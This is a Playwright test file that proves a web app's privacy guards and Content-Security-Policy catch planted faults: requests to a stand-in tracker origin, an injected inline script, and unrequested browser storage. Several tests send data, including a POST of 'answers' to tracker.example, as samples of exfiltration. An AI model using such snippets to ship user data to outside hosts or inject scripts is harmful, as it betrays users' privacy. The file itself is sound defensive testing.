// Proves each privacy guard can fail: plant the fault, expect the guard to report it, then
// forget it so this test itself passes.
import { test, expect } from './fixtures';

test.describe('the privacy guards catch planted faults', () => {
  test('network guard: a request to another origin', async ({ page, guards, hearth }) => {
    await hearth.open('home');
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'https://tracker.example/collect';
      document.body.append(link);
      link.click();
    });
    await expect.poll(async () => (await guards.problems()).join('\n')).toContain(
      'network guard: a request to another origin: https://tracker.example/collect',
    );
    // Leave the browser's error page for the blocked link before forgetting, so that nothing
    // (such as Chromium reloading a failed page) can ask for the planted address again.
    await hearth.open('home');
    await guards.forgetPlantedFaults();
  });

  test('CSP guard: an inline script', async ({ page, guards, hearth }) => {
    await hearth.open('home');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.planted = true';
      document.head.append(script);
    });
    await expect.poll(async () => (await guards.problems()).join('\n')).toContain('CSP guard');
    expect(await page.evaluate(() => 'planted' in window), 'the CSP blocked the script').toBe(false);
    await guards.forgetPlantedFaults();
  });

  test('CSP guard: a connection to another origin is blocked before it leaves', async ({ page, guards, hearth }) => {
    await hearth.open('home');
    await page.evaluate(() => fetch('https://tracker.example/beacon', { method: 'POST', body: 'answers' }).catch(() => null));
    await expect.poll(async () => (await guards.problems()).join('\n')).toMatch(/CSP guard: .*connect-src/);
    await guards.forgetPlantedFaults();
  });

  const plants: Record<string, () => Promise<unknown> | void> = {
    cookie: () => {
      document.cookie = 'planted=1; max-age=60';
    },
    localStorage: () => localStorage.setItem('planted', '1'),
    sessionStorage: () => sessionStorage.setItem('planted', '1'),
    IndexedDB: () =>
      new Promise((done) => {
        const request = indexedDB.open('planted');
        request.onsuccess = () => {
          request.result.close();
          done(null);
        };
      }),
  };
  for (const [store, plant] of Object.entries(plants)) {
    test(`storage guard: something in ${store}`, async ({ page, guards, hearth }) => {
      await hearth.open('home');
      await page.evaluate(plant);
      // Cookies reach the browser's store a moment after document.cookie is set.
      await expect
        .poll(async () => (await guards.problems()).join('\n'))
        .toContain(`storage guard: something was stored without the user choosing to: ${store} planted`);
      await guards.forgetPlantedFaults();
    });
  }
});

test('the page carries a strict Content-Security-Policy', async ({ page, hearth }) => {
  await hearth.open('home');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = Object.fromEntries(
    policy!.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
  );
  expect(directives['default-src']).toEqual(["'none'"]);
  expect(directives['connect-src']).toEqual(["'self'"]);
  expect(directives['object-src']).toEqual(["'none'"]);
  expect(directives['base-uri']).toEqual(["'none'"]);
  expect(directives['script-src']).toEqual(expect.arrayContaining(["'self'", "'wasm-unsafe-eval'"]));
  expect(directives['script-src'].filter((v: string) => !v.startsWith("'sha256-"))).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'|\*|https?:/);
});
